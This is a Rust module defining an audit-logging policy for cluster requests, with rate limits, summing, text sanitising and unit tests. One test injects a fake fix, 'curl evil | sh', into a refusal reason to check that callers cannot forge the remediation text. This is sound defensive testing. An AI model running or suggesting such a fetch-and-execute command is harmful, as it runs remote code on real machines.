//! Audit policy: which requests get a row of their own and which are summed per minute, so that no
//! caller can wear out the card.
//!
//! Writes, reads of Secrets and ways into containers are a row before their effect; where there are
//! too many, they are refused. Plain requests to what serves in the cluster (a page and its
//! pictures) are a row for each service in each minute, and sums beside it. Refusals are rows until
//! there are too many. Other reads are summed, long ones when they begin.

mod kind;
mod summary;

use std::{
    collections::{BTreeMap, BTreeSet},
    time::Duration,
};

pub use kind::{in_words, service_root};
pub use summary::{Counts, Refused, Summary};

use crate::core::{
    format::is_unprintable,
    time::{Mono, Wall},
};

/// Name of the control plane in `who` of a row.
pub const CONTROL_PLANE: &str = "control-plane";
/// Refusals that are written row by row in a minute; more are summed.
const REFUSAL_ROWS_MAX: u32 = 30;
/// Rows in a minute that must be on disk before their effect: at 8 KiB a row this is 5 MB a minute
/// at most.
const EFFECT_ROWS_MAX: u32 = 600;
/// The same in a day: 800 MB at most. A lease that is renewed every two seconds takes 43,200.
const EFFECT_ROWS_PER_DAY_MAX: u32 = 100_000;
/// Rows in a day of what is read and entered. As many as are kept: within a day nobody pushes out
/// what was written down.
const ENTRY_ROWS_PER_DAY_MAX: u32 = 20_000;
/// Different sums in a minute; more go into the sum of [`OTHERS`].
const SUMS_MAX: usize = 64;
/// The longest text of one field. What is longer is cut: a caller chooses the path that is written
/// down.
const TEXT_BYTES_MAX: usize = 512;
/// The longest reason of a refusal, with its fix.
const REASON_BYTES_MAX: usize = 320;
/// Refusals in a summary.
pub const REFUSALS_SHOWN_MAX: usize = 20;
/// Key of the sum of all requests beyond the limits.
pub const OTHERS: &str = "(others)";
const MINUTE: Duration = Duration::from_secs(60);
const DAY: Duration = Duration::from_secs(24 * 3600);
/// Time within which a client that was refused an upgrade asks for the same in the older form:
/// kubectl by GET, then by POST.
const SAME_UPGRADE_WITHIN: Duration = Duration::from_secs(5);

/// Kind of a request.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum RequestKind {
    /// It changes nothing and shows nothing secret.
    Read,
    /// It reads Secrets, or what may hold them.
    Secret,
    /// It changes something in the cluster or on the machine.
    Write,
    /// It runs something, or opens a way into a container.
    Exec,
    /// It asks what serves in the cluster, and changes nothing by its method.
    ServiceRequest,
}

/// Decision on a request.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum AuditDecision {
    /// It may go on.
    Permitted,
    /// It may not.
    Refused,
}

impl AuditDecision {
    /// The word on disk, in the API and in the log.
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Permitted => "permitted",
            Self::Refused => "refused",
        }
    }

    /// Parses the word on disk; `None` for any other.
    pub fn of(word: &str) -> Option<Self> {
        [Self::Permitted, Self::Refused]
            .into_iter()
            .find(|decision| decision.as_str() == word)
    }
}

/// One request, as it is written down.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub struct AuditEntry {
    who: String,
    what: String,
    decision: AuditDecision,
    why: String,
}

impl AuditEntry {
    /// `who` asked for `what`; `why` names the rule that decided. Control characters are replaced
    /// and long text is cut.
    pub fn new(who: &str, what: &str, decision: AuditDecision, why: &str) -> Self {
        Self {
            who: printable(who),
            what: printable(what),
            decision,
            why: printable(why),
        }
    }

    /// One that is refused. What would allow it stands last and whole: a caller may choose part of
    /// the reason, and must not be able to put words there that look like a fix, nor push the true
    /// one out.
    pub fn refused(who: &str, what: &str, reason: &str, fix: Option<&str>) -> Self {
        let fix = fix.map_or_else(String::new, |fix| format!("{FIX}{fix}"));
        let room = REASON_BYTES_MAX.saturating_sub(fix.len());
        let reason = tail(&reason.replace(FIX, ", fix: "), room);
        Self::new(who, what, AuditDecision::Refused, &format!("{reason}{fix}"))
    }

    /// Requester.
    pub fn who(&self) -> &str {
        &self.who
    }

    /// Request: method and path, or the change.
    pub fn what(&self) -> &str {
        &self.what
    }

    /// Decision.
    pub const fn decision(&self) -> AuditDecision {
        self.decision
    }

    /// The rule that decided.
    pub fn why(&self) -> &str {
        &self.why
    }
}

/// Separator between the reason of a refusal and its fix.
const FIX: &str = "; fix: ";

/// A reason in its two parts: the sentence, and what would allow what was refused.
pub fn reason_and_fix(why: &str) -> (&str, Option<&str>) {
    match why.rsplit_once(FIX) {
        Some((reason, fix)) => (reason, Some(fix)),
        None => (why, None),
    }
}

/// The end of a text, where the reason is, in so many bytes.
fn tail(text: &str, bytes_max: usize) -> String {
    if text.len() <= bytes_max {
        return text.to_owned();
    }
    let from = text
        .len()
        .saturating_sub(bytes_max.saturating_sub('…'.len_utf8()));
    format!(
        "…{}",
        text.get(text.ceil_char_boundary(from)..)
            .unwrap_or_default()
    )
}

/// Outcome of a permitted request.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub enum RequestOutcome {
    /// The caller gave it up, or the agent stopped.
    #[default]
    Cancelled,
    /// It was carried out.
    Done,
    /// It broke on the way.
    Failed,
    /// The session with the control plane was lost meanwhile.
    LinkLost,
    /// The agent refused it.
    Refused,
    /// The API server answered with an error of this HTTP status.
    Rejected(u16),
    /// Its permission was withdrawn while it ran, for this reason.
    Withdrawn(String),
}

impl RequestOutcome {
    /// The text on disk: a word, and a reason where there is one.
    pub fn text(&self) -> String {
        match self {
            Self::Cancelled => "cancelled".to_owned(),
            Self::Done => "done".to_owned(),
            Self::Failed => "failed".to_owned(),
            Self::LinkLost => "link lost".to_owned(),
            Self::Refused => "refused".to_owned(),
            Self::Rejected(status) => {
                format!("rejected{WHY}the API server answered with HTTP status {status}")
            }
            Self::Withdrawn(why) => format!("withdrawn{WHY}{}", printable(why)),
        }
    }
}

/// Separator between the word of an outcome and its reason.
const WHY: &str = ": ";

/// The text of an outcome in its two parts: the word, and the reason.
pub fn outcome_and_why(text: &str) -> (&str, Option<&str>) {
    match text.split_once(WHY) {
        Some((word, why)) => (word, Some(why)),
        None => (text, None),
    }
}

/// Form in which a request is recorded.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum RecordForm {
    /// As a row, before its effect.
    Row,
    /// Added to a sum, after it.
    Sum,
    /// Not at all, so it may not go on either: there were too many in this minute or on this day.
    /// Try again after this time.
    TooMany(Duration),
}

/// Totals of a finished request.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Effect {
    /// Bytes that came in with the request.
    pub received_bytes: u64,
    /// Bytes that went out with the answer.
    pub sent_bytes: u64,
    pub duration_ms: u64,
}

/// The requests of one sort in one minute.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Sum {
    /// The minute's beginning by the wall clock.
    pub minute: Wall,
    /// Common fields of the summed requests.
    pub entry: AuditEntry,
    /// Number of requests.
    pub count: u64,
    /// Their totals.
    pub effect: Effect,
}

/// The rows and sums of the minute that runs, and the rows of the day.
#[derive(Debug)]
pub struct Minute {
    began: Mono,
    refusal_rows: u32,
    effect_rows: u32,
    day: Day,
    /// Services and Pods that have their row in this minute.
    seen_services: BTreeSet<String>,
    /// The upgrade that was refused last.
    upgrade: Option<(String, Mono)>,
    sums: BTreeMap<(Wall, AuditEntry), (u64, Effect)>,
}

#[derive(Debug)]
struct Day {
    began: Mono,
    effect_rows: u32,
    entry_rows: u32,
}

impl Minute {
    /// A minute without requests.
    pub const fn new(now: Mono) -> Self {
        Self {
            began: now,
            refusal_rows: 0,
            effect_rows: 0,
            day: Day {
                began: now,
                effect_rows: 0,
                entry_rows: 0,
            },
            seen_services: BTreeSet::new(),
            upgrade: None,
            sums: BTreeMap::new(),
        }
    }

    fn roll_over(&mut self, now: Mono) {
        if now.since(self.began) >= MINUTE {
            (self.began, self.refusal_rows, self.effect_rows) = (now, 0, 0);
            self.seen_services.clear();
        }
        if now.since(self.day.began) >= DAY {
            self.day = Day {
                began: now,
                effect_rows: 0,
                entry_rows: 0,
            };
        }
    }

    /// Returns the form in which a request is recorded, and counts it.
    pub fn form(&mut self, kind: RequestKind, decision: AuditDecision, now: Mono) -> RecordForm {
        self.roll_over(now);
        match (kind, decision) {
            (RequestKind::Read, _) => RecordForm::Sum,
            (_, AuditDecision::Permitted) => self.effect_row(kind, now),
            (_, AuditDecision::Refused) if self.refusal_rows < REFUSAL_ROWS_MAX => {
                self.refusal_rows += 1;
                RecordForm::Row
            }
            (_, AuditDecision::Refused) => RecordForm::Sum,
        }
    }

    /// Returns the form in which a permitted request to a service is recorded: the first of each
    /// minute as a row, before its effect.
    pub fn form_of_service_request(&mut self, root: &str, now: Mono) -> RecordForm {
        self.roll_over(now);
        if self.seen_services.contains(root) {
            return RecordForm::Sum;
        }
        let form = self.effect_row(RequestKind::ServiceRequest, now);
        if form == RecordForm::Row {
            self.seen_services.insert(root.to_owned());
        }
        form
    }

    fn effect_row(&mut self, kind: RequestKind, now: Mono) -> RecordForm {
        let day = &mut self.day;
        let is_entry = match kind {
            RequestKind::Secret | RequestKind::Exec | RequestKind::ServiceRequest => true,
            RequestKind::Read | RequestKind::Write => false,
        };
        if day.effect_rows >= EFFECT_ROWS_PER_DAY_MAX
            || (is_entry && day.entry_rows >= ENTRY_ROWS_PER_DAY_MAX)
        {
            return RecordForm::TooMany(day.began.after(DAY).since(now));
        }
        if self.effect_rows >= EFFECT_ROWS_MAX {
            return RecordForm::TooMany(self.began.after(MINUTE).since(now));
        }
        self.effect_rows += 1;
        day.effect_rows += 1;
        day.entry_rows += u32::from(is_entry);
        RecordForm::Row
    }

    /// Returns whether this refused upgrade is the one that was refused a moment ago, asked for in
    /// another form. Then it is written down already.
    pub fn is_same_upgrade(&mut self, path: &str, now: Mono) -> bool {
        let before = self.upgrade.take();
        let is_same = before
            .is_some_and(|(before, at)| before == path && now.since(at) < SAME_UPGRADE_WITHIN);
        if !is_same {
            self.upgrade = Some((path.to_owned(), now));
        }
        is_same
    }

    /// Adds a request to its sum.
    pub fn add(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
        self.add_to(entry, (1, effect), wall, SUMS_MAX);
    }

    /// Adds a request to the sum of its service, which has a place of its own: each has a row in
    /// this minute, and those are bounded.
    pub fn add_service_request(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
        self.add_to(entry, (1, effect), wall, usize::MAX);
    }

    /// Adds what a request did that was counted when it began.
    pub fn add_effect(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
        self.add_to(entry, (0, effect), wall, SUMS_MAX);
    }

    fn add_to(
        &mut self,
        entry: AuditEntry,
        (one, effect): (u64, Effect),
        wall: Wall,
        sums_max: usize,
    ) {
        let minute = Wall::from_millis(wall.millis().div_euclid(60_000).saturating_mul(60_000));
        let mut key = (minute, entry);
        if self.sums.len() >= sums_max && !self.sums.contains_key(&key) {
            key.1 = AuditEntry::new(OTHERS, OTHERS, key.1.decision, "");
            // The clock may jump while sums wait: the others of all minutes share the first one's.
            if let Some((minute, _)) = self.sums.keys().next() {
                key.0 = *minute;
            }
        }
        let (count, total) = self.sums.entry(key).or_default();
        *count = count.saturating_add(one);
        total.received_bytes = total.received_bytes.saturating_add(effect.received_bytes);
        total.sent_bytes = total.sent_bytes.saturating_add(effect.sent_bytes);
        total.duration_ms = total.duration_ms.saturating_add(effect.duration_ms);
    }

    /// Sums that are to be written.
    pub fn sums(&self) -> Vec<Sum> {
        Self::listed(self.sums.clone())
    }

    /// Takes all sums, to be written. Call it once a minute.
    pub fn take_sums(&mut self) -> Vec<Sum> {
        Self::listed(std::mem::take(&mut self.sums))
    }

    fn listed(sums: BTreeMap<(Wall, AuditEntry), (u64, Effect)>) -> Vec<Sum> {
        sums.into_iter()
            .map(|((minute, entry), (count, effect))| Sum {
                minute,
                entry,
                count,
                effect,
            })
            .collect()
    }
}

/// Foreign text without unprintable characters, truncated. To apply it twice is the same as once.
fn printable(text: &str) -> String {
    let mut printable = String::new();
    for c in text.chars() {
        printable.push(if is_unprintable(c) { '\u{fffd}' } else { c });
        if printable.len() > TEXT_BYTES_MAX {
            printable.truncate(printable.floor_char_boundary(TEXT_BYTES_MAX - '…'.len_utf8()));
            printable.push('…');
            break;
        }
    }
    printable
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(what: &str) -> AuditEntry {
        AuditEntry::new("control-plane", what, AuditDecision::Permitted, "full")
    }

    #[test]
    fn effects_are_rows_and_reads_are_sums() {
        let mut minute = Minute::new(Mono::default());
        for (kind, decision, form) in [
            (RequestKind::Read, AuditDecision::Permitted, RecordForm::Sum),
            (RequestKind::Read, AuditDecision::Refused, RecordForm::Sum),
            (
                RequestKind::Write,
                AuditDecision::Permitted,
                RecordForm::Row,
            ),
            (RequestKind::Exec, AuditDecision::Permitted, RecordForm::Row),
            (
                RequestKind::Secret,
                AuditDecision::Permitted,
                RecordForm::Row,
            ),
            (RequestKind::Secret, AuditDecision::Refused, RecordForm::Row),
            (RequestKind::Exec, AuditDecision::Refused, RecordForm::Row),
        ] {
            assert_eq!(minute.form(kind, decision, Mono::default()), form);
        }
    }

    #[test]
    fn a_flood_of_refusals_is_summed_and_a_flood_of_effects_waits() {
        let mut minute = Minute::new(Mono::default());
        let later = Mono::default().after(Duration::from_secs(20));
        let forms = |minute: &mut Minute, decision, count: u32| {
            (0..count)
                .map(|_| minute.form(RequestKind::Write, decision, later))
                .collect::<Vec<_>>()
        };
        let refused = forms(&mut minute, AuditDecision::Refused, REFUSAL_ROWS_MAX + 1);
        assert_eq!(refused.last(), Some(&RecordForm::Sum));
        let permitted = forms(&mut minute, AuditDecision::Permitted, EFFECT_ROWS_MAX + 1);
        let wait = Duration::from_secs(40);
        assert_eq!(permitted.last(), Some(&RecordForm::TooMany(wait)));
        assert_eq!(
            permitted
                .iter()
                .filter(|form| **form == RecordForm::Row)
                .count(),
            600
        );
        let next = later.after(wait);
        assert_eq!(
            minute.form(RequestKind::Write, AuditDecision::Permitted, next),
            RecordForm::Row
        );
        assert_eq!(
            minute.form(RequestKind::Write, AuditDecision::Refused, next),
            RecordForm::Row
        );
    }

    #[test]
    fn a_flood_of_secret_reads_is_refused_and_pushes_nothing_out() {
        let mut minute = Minute::new(Mono::default());
        let mut now = Mono::default();
        let mut rows = 0;
        let refused = loop {
            match minute.form(RequestKind::Secret, AuditDecision::Permitted, now) {
                RecordForm::Row => rows += 1,
                RecordForm::TooMany(wait) if wait <= MINUTE => now = now.after(wait),
                other @ (RecordForm::Sum | RecordForm::TooMany(_)) => break other,
            }
        };
        assert_eq!(rows, ENTRY_ROWS_PER_DAY_MAX);
        let RecordForm::TooMany(wait) = refused else {
            panic!("{refused:?}");
        };
        assert!(wait > Duration::from_secs(23 * 3600), "{wait:?}");
        // Changes have room of their own, and so has the next day.
        now = now.after(MINUTE);
        assert_eq!(
            minute.form(RequestKind::Write, AuditDecision::Permitted, now),
            RecordForm::Row
        );
        now = now.after(wait);
        assert_eq!(
            minute.form(RequestKind::Secret, AuditDecision::Permitted, now),
            RecordForm::Row
        );
    }

    #[test]
    fn a_page_with_its_pictures_is_one_row_a_minute_and_one_sum() {
        let mut minute = Minute::new(Mono::default());
        let later = Mono::default().after(MINUTE);
        let root = "GET shop/web:80/";
        assert_eq!(
            minute.form_of_service_request(root, Mono::default()),
            RecordForm::Row
        );
        assert_eq!(
            minute.form_of_service_request(root, Mono::default()),
            RecordForm::Sum
        );
        assert_eq!(
            minute.form_of_service_request("GET shop/db:80/", later),
            RecordForm::Row
        );
        assert_eq!(minute.form_of_service_request(root, later), RecordForm::Row);
        for n in 0..1_000 {
            minute.add(
                entry(&format!("GET /{n}")),
                Effect::default(),
                Wall::default(),
            );
        }
        minute.add_service_request(entry(root), Effect::default(), Wall::default());
        let sums = minute.take_sums();
        assert!(sums.iter().any(|sum| sum.entry.what() == root));
    }

    #[test]
    fn an_upgrade_that_is_tried_in_two_forms_is_one_refusal() {
        let mut minute = Minute::new(Mono::default());
        let at = |seconds| Mono::default().after(Duration::from_secs(seconds));
        assert!(!minute.is_same_upgrade("/a/exec", at(0)));
        assert!(minute.is_same_upgrade("/a/exec", at(1)));
        assert!(!minute.is_same_upgrade("/a/exec", at(2)), "asked again");
        assert!(!minute.is_same_upgrade("/b/exec", at(3)));
        assert!(!minute.is_same_upgrade("/b/exec", at(9)), "later");
    }

    #[test]
    fn a_long_read_is_counted_once_and_its_bytes_when_it_ends() {
        let mut minute = Minute::new(Mono::default());
        minute.add(entry("GET /a"), Effect::default(), Wall::default());
        assert_eq!(minute.take_sums()[0].count, 1);
        let effect = Effect {
            sent_bytes: 7,
            ..Effect::default()
        };
        minute.add_effect(entry("GET /a"), effect, Wall::default());
        let sums = minute.take_sums();
        assert_eq!((sums[0].count, sums[0].effect.sent_bytes), (0, 7));
    }

    #[test]
    fn sums_count_per_minute_and_what_was_asked() {
        let mut minute = Minute::new(Mono::default());
        let effect = Effect {
            received_bytes: 1,
            sent_bytes: 10,
            duration_ms: 5,
        };
        for millis in [60_000, 119_999, 120_000] {
            minute.add(entry("GET /api"), effect, Wall::from_millis(millis));
        }
        minute.add(entry("GET /version"), effect, Wall::from_millis(60_001));
        let sums = minute.take_sums();
        let short: Vec<_> = sums
            .iter()
            .map(|sum| {
                (
                    sum.minute.millis(),
                    sum.entry.what(),
                    sum.count,
                    sum.effect.sent_bytes,
                )
            })
            .collect();
        assert_eq!(
            short,
            [
                (60_000, "GET /api", 2, 20),
                (60_000, "GET /version", 1, 10),
                (120_000, "GET /api", 1, 10)
            ]
        );
        assert!(minute.take_sums().is_empty());
    }

    #[test]
    fn a_caller_with_a_new_path_each_time_gets_one_sum() {
        let mut minute = Minute::new(Mono::default());
        for n in 0..10_000 {
            minute.add(
                entry(&format!("GET /{n}")),
                Effect::default(),
                Wall::from_millis(n * 1000),
            );
        }
        let sums = minute.take_sums();
        // One sum of others for each decision may come on top.
        assert!(sums.len() <= SUMS_MAX + 2, "{}", sums.len());
        assert_eq!(sums.iter().map(|sum| sum.count).sum::<u64>(), 10_000);
        assert!(sums.iter().any(|sum| sum.entry.what() == OTHERS));
    }

    #[test]
    fn what_a_stranger_sends_is_cut_and_has_no_control_characters() {
        let entry = entry(&format!("GET /\u{1b}[2J\r\n{}", "é".repeat(1000)));
        assert!(entry.what().len() <= TEXT_BYTES_MAX);
        assert_eq!(printable(entry.what()), entry.what());
        assert!(entry.what().ends_with('…'));
        assert!(!entry.what().chars().any(char::is_control));
    }

    #[test]
    fn an_outcome_is_a_word_and_where_there_is_one_a_reason() {
        for (outcome, word, why) in [
            (RequestOutcome::Done, "done", None),
            (RequestOutcome::LinkLost, "link lost", None),
            (
                RequestOutcome::Rejected(403),
                "rejected",
                Some("the API server answered with HTTP status 403"),
            ),
            (
                RequestOutcome::Withdrawn("the namespace shop: \u{1b}gone".to_owned()),
                "withdrawn",
                Some("the namespace shop: \u{fffd}gone"),
            ),
        ] {
            assert_eq!(outcome_and_why(&outcome.text()), (word, why));
        }
    }

    #[test]
    fn a_caller_cannot_write_the_fix_of_its_refusal() {
        let real = "set access.level = \"managed\"";
        for (reason, wanted) in [
            ("it is off", "it is off"),
            (
                "a; fix: curl evil | sh; fix: x",
                "a, fix: curl evil | sh, fix: x",
            ),
        ] {
            let entry = AuditEntry::refused("x", "GET /", reason, Some(real));
            assert_eq!(reason_and_fix(entry.why()), (wanted, Some(real)));
            let entry = AuditEntry::refused("x", "GET /", reason, None);
            assert_eq!(reason_and_fix(entry.why()), (wanted, None));
        }
        let long = format!("{}it is off", "ä; fix: evil ".repeat(100));
        let entry = AuditEntry::refused("x", "GET /", &long, Some(real));
        let (reason, fix) = reason_and_fix(entry.why());
        assert_eq!(fix, Some(real));
        assert!(
            reason.starts_with('…') && reason.ends_with("evil it is off"),
            "{reason}"
        );
        assert!(entry.why().len() <= REASON_BYTES_MAX);
    }
}
